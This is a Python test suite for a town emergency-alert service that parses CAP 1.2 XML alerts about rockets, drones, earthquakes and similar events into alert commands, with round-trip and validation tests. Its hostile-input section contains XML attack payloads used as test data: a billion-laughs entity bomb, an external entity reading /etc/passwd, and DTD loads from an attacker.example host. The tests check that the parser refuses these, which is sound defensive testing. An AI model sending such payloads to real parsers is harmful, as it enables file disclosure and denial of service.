"""CAP 1.2 import: upstream messages become alert commands; hostile or invalid XML is refused."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from alerts.alertlog import NOW, Log
from alerts.capgen import alert_commands, local_texts
from magen.alerts.cap import CapConfig, CapUnknownEvent, export_event, parse_cap, read_cap
from magen.alerts.capxml import MAX_CAP_BYTES, CapError, CapMessage, decode_cap
from magen.domain.alerts import (
    CATEGORY_INSTRUCTIONS,
    AlertCategory,
    CapRef,
    CapSource,
    Circle,
    DangerReason,
    DeclareAllClear,
    DeclareDangerArea,
    EndAlert,
    IssueAlert,
    IssueGuidanceOverride,
    LocalText,
    OverrideAction,
    Polygon,
    UpdateAlert,
)
from magen.domain.errors import Conflict

CONFIG = CapConfig(sender="magen@baka.example")
SENT = "2024-05-01T12:29:50+03:00"
SQUARE = "31.755,35.21 31.755,35.222 31.768,35.222 31.768,35.21 31.755,35.21"


def nowhere(area: Circle | Polygon) -> list[str]:
    return []


def baka(area: Circle | Polygon) -> list[str]:
    return ["baka"]


def info(
    event: str = "ירי רקטות וטילים",
    *,
    language: str = "he-IL",
    category: str = "Security",
    response: str = "",
    instruction: str = "היכנסו למרחב המוגן",
    area: str = f"<polygon>{SQUARE}</polygon>",
    extra: str = "",
    params: str = "",
) -> str:
    response_xml = f"<responseType>{response}</responseType>" if response else ""
    return f"""
  <info>
    <language>{language}</language>
    <category>{category}</category>
    <event>{event}</event>
    {response_xml}
    <urgency>Immediate</urgency>
    <severity>Extreme</severity>
    <certainty>Observed</certainty>
    {extra}
    <instruction>{instruction}</instruction>
    {params}
    <area><areaDesc>בקעה</areaDesc>{area}</area>
  </info>"""


def cap(
    *infos: str,
    identifier: str = "HFC-2024-0001",
    sender: str = "hfc@oref.example",
    status: str = "Actual",
    msg_type: str = "Alert",
    references: str = "",
    ns: str = "urn:oasis:names:tc:emergency:cap:1.2",
    sent: str = SENT,
) -> bytes:
    refs = f"<references>{references}</references>" if references else ""
    body = "".join(infos) if infos else info()
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="{ns}">
  <identifier>{identifier}</identifier>
  <sender>{sender}</sender>
  <sent>{sent}</sent>
  <status>{status}</status>
  <msgType>{msg_type}</msgType>
  <scope>Public</scope>
  {refs}
  {body}
</alert>""".encode()


# --- mapping upstream messages ------------------------------------------------------------


def test_an_upstream_rocket_alert_becomes_an_issue_command() -> None:
    seen: list[Circle | Polygon] = []

    def zones(area: Circle | Polygon) -> list[str]:
        seen.append(area)
        return ["baka", "talpiot"]

    (command,) = parse_cap(cap(), zones)
    assert isinstance(command, IssueAlert)
    assert command.category is AlertCategory.MISSILES
    assert command.zone_ids == ("baka", "talpiot")
    assert command.source == CapSource(
        sender="hfc@oref.example",
        identifier="HFC-2024-0001",
        sent=datetime(2024, 5, 1, 9, 29, 50, tzinfo=UTC),
    )
    assert command.issued_at == command.source.sent
    # CAP says lat,lon; Magen keeps lon,lat.
    (area,) = seen
    assert isinstance(area, Polygon)
    assert area.ring[0] == (35.21, 31.755)
    assert command.areas == (area,)
    assert command.instruction == LocalText(he="היכנסו למרחב המוגן")
    log = Log()
    (rec,) = log.run(command, at=NOW)
    alert = log.alerts.alerts[rec.event.alert_id]  # type: ignore[attr-defined]
    # Languages the upstream left out get the Home Front Command's standard text.
    assert alert.instruction.en == CATEGORY_INSTRUCTIONS[AlertCategory.MISSILES].en
    assert alert.instruction.he == "היכנסו למרחב המוגן"


@pytest.mark.parametrize(
    ("event", "language", "category"),
    [
        ("Hostile Aircraft Intrusion", "en-US", AlertCategory.HOSTILE_AIRCRAFT_INTRUSION),
        ("UAV alert", "en", AlertCategory.HOSTILE_AIRCRAFT_INTRUSION),
        ("חדירת כלי טיס עוין", "he", AlertCategory.HOSTILE_AIRCRAFT_INTRUSION),
        ("חשש לחדירת מחבלים", "he", AlertCategory.TERRORIST_INFILTRATION),
        ("تسلل مخربين", "ar", AlertCategory.TERRORIST_INFILTRATION),
        ("إطلاق صواريخ", "ar", AlertCategory.MISSILES),
        ("Red Alert: rockets", "en", AlertCategory.MISSILES),
        ("רעידת אדמה", "he", AlertCategory.EARTHQUAKE),
        ("Tsunami warning", "en", AlertCategory.TSUNAMI),
        ("אירוע חומרים מסוכנים", "he", AlertCategory.HAZARDOUS_MATERIALS),
        ("חשש לאירוע רדיולוגי", "he", AlertCategory.RADIOLOGICAL_EVENT),
        ("ירי בלתי קונבנציונלי", "he", AlertCategory.UNCONVENTIONAL_MISSILE),
        ("בדקות הקרובות צפויות להתקבל התרעות באזורך", "he", AlertCategory.EARLY_WARNING),
    ],
)
def test_event_text_in_each_language_maps_to_the_command_category(
    event: str, language: str, category: AlertCategory
) -> None:
    (command,) = parse_cap(cap(info(event, language=language)), baka)
    assert isinstance(command, IssueAlert)
    assert command.category is category


def test_infos_in_three_languages_make_one_alert_with_three_instructions() -> None:
    message = cap(
        info("ירי רקטות וטילים", language="he-IL", instruction="היכנסו"),
        info("إطلاق صواريخ", language="ar", instruction="ادخلوا"),
        info("Rocket and missile fire", language="en-US", instruction="Go in"),
    )
    (command,) = parse_cap(message, baka)
    assert isinstance(command, IssueAlert)
    assert command.instruction == LocalText(he="היכנסו", ar="ادخلوا", en="Go in")
    assert len(command.areas) == 1  # the same polygon in each language is one area


def test_all_clear_cancel_and_update_map_to_end_commands() -> None:
    clear = parse_cap(cap(info("האירוע הסתיים", response="AllClear")), baka)
    assert [type(c) for c in clear] == [DeclareAllClear]
    assert clear[0].zone_ids == ("baka",)

    ref = f"hfc@oref.example,HFC-2024-0001,{SENT}"
    (cancel,) = parse_cap(cap(msg_type="Cancel", identifier="HFC-2", references=ref), baka)
    assert isinstance(cancel, EndAlert)
    assert cancel.references == (CapRef(sender="hfc@oref.example", identifier="HFC-2024-0001"),)
    assert cancel.zone_ids == ()

    (ended,) = parse_cap(
        cap(info(response="AllClear"), msg_type="Update", identifier="HFC-3", references=ref), baka
    )
    assert isinstance(ended, EndAlert)
    assert ended.zone_ids == ("baka",)

    (update,) = parse_cap(cap(msg_type="Update", identifier="HFC-4", references=ref), baka)
    assert isinstance(update, UpdateAlert)
    (gone,) = parse_cap(cap(msg_type="Update", identifier="HFC-5", references=ref), nowhere)
    assert isinstance(gone, EndAlert)  # the new definition leaves this town


def test_messages_that_ask_nothing_of_this_town_yield_no_command() -> None:
    assert parse_cap(cap(), nowhere) == []
    assert parse_cap(cap(status="Test"), baka) == []
    assert parse_cap(cap(status="Draft"), baka) == []
    ref = f"hfc@oref.example,HFC-1,{SENT}"
    assert parse_cap(cap(msg_type="Ack", references=ref), baka) == []
    (drill,) = parse_cap(cap(status="Exercise"), baka)
    assert isinstance(drill, IssueAlert)
    assert drill.drill


def test_reimporting_a_message_is_idempotent_and_then_refused() -> None:
    first = parse_cap(cap(), baka)
    again = parse_cap(cap(), baka)
    assert first == again  # same command ids: the service returns the first result
    log = Log()
    log.run(first[0])
    other = first[0].model_copy(update={"command_id": uuid.uuid4()})
    log.refuse(other, Conflict, "already imported")


def test_operator_orders_of_another_system_are_not_official_alerts() -> None:
    log = Log()
    (override,) = log.run(
        IssueGuidanceOverride(
            command_id=uuid.uuid4(), action=OverrideAction.LOCK_IN, zone_ids=("z",)
        )
    )
    (danger,) = log.run(
        DeclareDangerArea(
            command_id=uuid.uuid4(),
            area=Circle(lat=31.76, lon=35.21, radius_m=100),
            reason=DangerReason.FIRE,
        )
    )
    for rec in (override, danger):
        xml = export_event(rec, log.state, CONFIG)
        assert xml is not None
        assert parse_cap(xml, baka) == []


# --- round trips --------------------------------------------------------------------------


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(command=alert_commands(), update=local_texts, at=st.integers(0, 10**6))
def test_import_then_export_round_trips(command: IssueAlert, update: LocalText, at: int) -> None:
    """A peer importing our messages re-exports the same content under its own identity:
    category, zones, areas, seconds to shelter and every instruction survive, and each of
    its messages references ours (CAP 1.2 §3.2.1: the sender is the originator)."""
    when = NOW + timedelta(seconds=at)
    ours, peer = Log(), Log()
    peer_config = CapConfig(sender="magen@peer.example")

    def content(m: CapMessage) -> list[tuple[object, ...]]:
        return [
            (
                *(i.language, i.event, i.response_types, i.instruction, i.event_codes),
                *(i.parameters, i.areas, i.expires, i.effective),
            )
            for i in m.infos
        ]

    def relay(records: list) -> None:  # type: ignore[type-arg]
        for rec in records:
            xml = export_event(rec, ours.state, CONFIG)
            assert xml is not None
            # The peer places our areas in the zone the alert names first (as its town would).
            commands = parse_cap(xml, lambda area: original_zones[:1])
            assert len(commands) == 1
            (copied,) = peer.run(commands[0], at=when)
            sent, theirs = (
                decode_cap(xml),
                decode_cap(export_event(copied, peer.state, peer_config) or b""),
            )
            assert (theirs.msg_type, theirs.status) == (sent.msg_type, sent.status)
            assert content(theirs) == content(sent)
            assert theirs.sender == "magen@peer.example"
            assert theirs.identifier != sent.identifier
            assert (sent.sender, sent.identifier, sent.sent) in {
                (r.sender, r.identifier, r.sent) for r in theirs.references
            }

    original_zones = command.zone_ids
    (issued,) = ours.run(command, at=when)
    relay([issued])
    alert_id = issued.event.alert_id  # type: ignore[attr-defined]
    (copy,) = peer.alerts.alerts.values()
    original = ours.alerts.alerts[alert_id]
    assert copy.source == CapSource(
        sender=CONFIG.sender,
        identifier=f"magen-{alert_id}",
        sent=when.replace(microsecond=0),
    )
    for name in ("category", "zone_ids", "areas", "instruction", "seconds_to_shelter", "drill"):
        assert getattr(copy, name) == getattr(original, name), name

    zones = (*original.zone_ids, "zz-extra")
    relay(
        ours.run(
            UpdateAlert(
                command_id=uuid.uuid4(), alert_id=alert_id, zone_ids=zones, instruction=update
            ),
            at=when,
        )
    )
    relay(
        ours.run(EndAlert(command_id=uuid.uuid4(), alert_id=alert_id, zone_ids=zones[:1]), at=when)
    )
    relay(ours.run(EndAlert(command_id=uuid.uuid4(), alert_id=alert_id), at=when))
    assert copy.ended_at is not None
    assert copy.instruction == original.instruction


# --- hostile and invalid input ------------------------------------------------------------

CATEGORY_CODE = "<eventCode><valueName>magen:category</valueName><value>zombies</value></eventCode>"


def seconds_param(value: str) -> str:
    return (
        "<parameter><valueName>magen:seconds_to_shelter</valueName>"
        f"<value>{value}</value></parameter>"
    )


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&secret;</identifier></alert>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY]
)
def test_dtds_and_entities_are_refused_before_anything_is_expanded(document: bytes) -> None:
    with pytest.raises(CapError, match="declares a DTD"):
        parse_cap(document, baka)


@pytest.mark.parametrize(
    ("document", "reason"),
    [
        (b"<alert xmlns='urn:oasis:names:tc:emergency:cap:1.2'><identifier>x", "malformed XML"),
        (b"this is not xml", "malformed XML"),
        (b"   ", "empty"),
        (b"<a>" + b"x" * MAX_CAP_BYTES + b"</a>", "larger than"),
        (
            cap(ns="urn:oasis:names:tc:emergency:cap:1.1"),
            "root element is <alert> in namespace 'urn:oasis:names:tc:emergency:cap:1.1'",
        ),
        (cap(ns=""), "without a namespace"),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'/>", "root element is <feed>"),
        (cap(status="Urgent"), "OASIS schema"),
        (cap(sent="2024-05-01T09:29:50Z"), "OASIS schema"),
        (cap(sent="2024-05-01T09:29:50.25+00:00"), "OASIS schema"),
        (cap(info(category="Weather")), "OASIS schema"),
        (cap(identifier="HFC 1"), "without spaces, commas"),
        (cap(sender="a,b"), "without spaces, commas"),
        (cap(msg_type="Update"), "must reference"),
        (cap(msg_type="Cancel", references="hfc,HFC-1"), "not 'sender,identifier,sent'"),
        (cap(msg_type="Cancel", references="hfc,HFC-1,yesterday"), "no valid sent time"),
        (cap(info(area="<circle>31.7,35.2</circle>")), "is not 'lat,lon radius'"),
        (cap(info(area="<circle>31.7,35.2 -1</circle>")), "must be a distance"),
        (cap(info(area="<circle>31.7,35.2 km</circle>")), "is not a number"),
        (cap(info(area="<circle>31.7,35.2 0</circle>")), "greater than 0"),
        (cap(info(area="<circle>91,35.2 1</circle>")), "outside WGS84"),
        (cap(info(area="<polygon>31.7,35.2 31.8,35.2 31.7,35.2</polygon>")), "at least 4 points"),
        (
            cap(info(area="<polygon>31.7,35.2 31.8,35.2 31.8,35.3 31.7,35.3</polygon>")),
            "must be closed",
        ),
        (
            cap(info(area="<polygon>31.7,35.2 31.8;35.2 31.8,35.3 31.7,35.2</polygon>")),
            "not a 'lat,lon' pair",
        ),
        (
            cap(info(area="<polygon>31.7,35.2 north,35.2 31.8,35.3 31.7,35.2</polygon>")),
            "not a pair of numbers",
        ),
        (
            cap(info(area="<polygon>31.7,35.2 31.7,nan 31.8,35.3 31.7,35.2</polygon>")),
            "outside WGS84",
        ),
        (
            # A bow tie: the ring crosses itself.
            cap(info(area="<polygon>31.7,35.2 31.8,35.3 31.7,35.3 31.8,35.2 31.7,35.2</polygon>")),
            "crosses itself",
        ),
        (
            cap(info(area="<polygon>31.7,35.2 31.8,35.3 31.9,35.4 31.7,35.2</polygon>")),
            "no area",
        ),
        (cap(info("Severe weather")), "cannot tell which Home Front Command alert"),
        (
            cap(info(extra=CATEGORY_CODE)),
            "unknown magen:category",
        ),
        (
            cap(info(params=seconds_param("soon"))),
            "is not 'zone=seconds'",
        ),
        (
            cap(info(params=seconds_param("baka=9000"))),
            "cannot become an alert: seconds_to_shelter.baka",
        ),
    ],
)
def test_invalid_messages_are_refused_with_a_clear_reason(document: bytes, reason: str) -> None:
    with pytest.raises(CapError) as caught:
        parse_cap(document, baka)
    assert reason in str(caught.value)


def test_zone_ids_from_the_lookup_are_checked() -> None:
    with pytest.raises(CapError, match="cannot become an alert: zone_ids"):
        parse_cap(cap(), lambda area: ["not a zone id"])


def test_one_bad_block_refuses_the_whole_message() -> None:
    bad = "<polygon>31.7,35.2 31.8,35.3 31.7,35.3 31.8,35.2 31.7,35.2</polygon>"
    message = cap(info(), info("Rocket and missile fire", language="en-US", area=bad))
    with pytest.raises(CapError, match="en-US area 1: the polygon crosses itself"):
        parse_cap(message, baka)


def test_non_bytes_input_is_refused() -> None:
    with pytest.raises(CapError, match="as bytes"):
        decode_cap("<alert/>")  # type: ignore[arg-type]


def test_other_encodings_and_formatting_whitespace_are_read() -> None:
    text = cap().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    text = text.replace("<identifier>HFC-2024-0001", "<identifier>\n    HFC-2024-0001\n  ")
    (command,) = parse_cap(text.encode("utf-16"), baka)
    assert isinstance(command, IssueAlert)
    assert command.source.identifier == "HFC-2024-0001"  # type: ignore[union-attr]
    assert command.category is AlertCategory.MISSILES


def test_the_oasis_specification_example_decodes() -> None:
    # The CAP 1.2 specification's own example (Appendix A.1, homeland security advisory).
    example = b"""<?xml version = "1.0" encoding = "UTF-8"?>
<alert xmlns = "urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>43b080713727</identifier>
  <sender>hsas@dhs.gov</sender>
  <sent>2003-04-02T14:39:01-05:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <scope>Public</scope>
  <info>
    <category>Security</category>
    <event>Homeland Security Advisory System Update</event>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Likely</certainty>
    <senderName>U.S. Government, Department of Homeland Security</senderName>
    <headline>Homeland Security Sets Code ORANGE</headline>
    <instruction> Homeland Security upgrades threat level to ORANGE (HIGH).</instruction>
    <web>http://www.dhs.gov/dhspublic/display?theme=29</web>
    <parameter>
      <valueName>HSAS</valueName>
      <value>ORANGE</value>
    </parameter>
    <area>
      <areaDesc>U.S. nationwide and interests worldwide</areaDesc>
    </area>
  </info>
</alert>"""
    message = decode_cap(example)
    assert message.sent == datetime(2003, 4, 2, 19, 39, 1, tzinfo=UTC)
    assert message.infos[0].language == "en-US"  # the schema's default
    assert message.infos[0].parameters == (("HSAS", "ORANGE"),)
    # Its one area is a name Magen cannot place: it asks nothing of the town, and says why.
    found = read_cap(example, baka)
    assert found.commands == ()
    assert found.unplaced == ("U.S. nationwide and interests worldwide",)
    assert found.reason.startswith("Magen cannot place the message's areas")
    # Placed in the town, a terror advisory is not one of the Home Front Command's alerts.
    placed = example.replace(
        b"<areaDesc>U.S. nationwide and interests worldwide</areaDesc>",
        b"<areaDesc>Baka</areaDesc><circle>31.76,35.21 1</circle>",
    )
    with pytest.raises(CapUnknownEvent, match="cannot tell which") as caught:
        parse_cap(placed, baka)
    assert caught.value.events == ("Homeland Security Advisory System Update",)


# --- where first, what second ---------------------------------------------------------------


def over_baka(area: Circle | Polygon) -> list[str]:
    """Baka's zone for the square over it; nothing for any other place."""
    return ["baka"] if isinstance(area, Polygon) and area.ring[0] == (35.21, 31.755) else []


def test_only_the_areas_over_the_town_are_kept_however_many_the_message_names() -> None:
    others = "".join(
        f"<area><areaDesc>Negev {n}</areaDesc><circle>{31.0 + n / 1000:.3f},34.8 1</circle></area>"
        for n in range(700)
    )
    (command,) = parse_cap(
        cap(
            info(extra="", params="", area=f"<polygon>{SQUARE}</polygon>").replace(
                "</info>", f"{others}</info>"
            )
        ),
        over_baka,
    )
    assert isinstance(command, IssueAlert)
    assert command.zone_ids == ("baka",)
    assert len(command.areas) == 1
    assert isinstance(command.areas[0], Polygon)


def test_an_unknown_event_elsewhere_asks_nothing_and_inside_the_town_is_named() -> None:
    tornado = cap(info("Tornado Warning", language="en-US", category="Met"))
    found = read_cap(tornado, nowhere)
    assert found.commands == ()
    assert found.reason == "the message's areas touch none of this town's zones"
    with pytest.raises(CapUnknownEvent) as caught:
        read_cap(tornado, baka)
    assert caught.value.events == ("Tornado Warning",)
    assert "'Tornado Warning'" in str(caught.value)
    assert "CAP category Met" in str(caught.value)
    # A zone geocode naming another town's zone is not this town's either.
    elsewhere = cap(
        info(
            "Tornado Warning",
            category="Met",
            area="<geocode><valueName>magen:zone</valueName><value>tlv-7</value></geocode>",
        )
    )
    assert read_cap(elsewhere, nowhere, town_zones={"baka"}).commands == ()
    with pytest.raises(CapUnknownEvent):
        read_cap(elsewhere, nowhere)  # without a town's list, a named zone is taken as here


def test_areas_without_geometry_are_named_as_unplaceable() -> None:
    named = "<geocode><valueName>HFC-area</valueName><value>ירושלים - דרום</value></geocode>"
    found = read_cap(cap(info(area=named)), baka)
    assert found.commands == ()
    assert found.unplaced == ("בקעה",)
    assert found.reason == (
        "Magen cannot place the message's areas (they have no polygon, circle or "
        "magen:zone geocode): בקעה"
    )
    assert read_cap(cap(status="Test"), baka).reason == "a Test message asks nothing of this town"
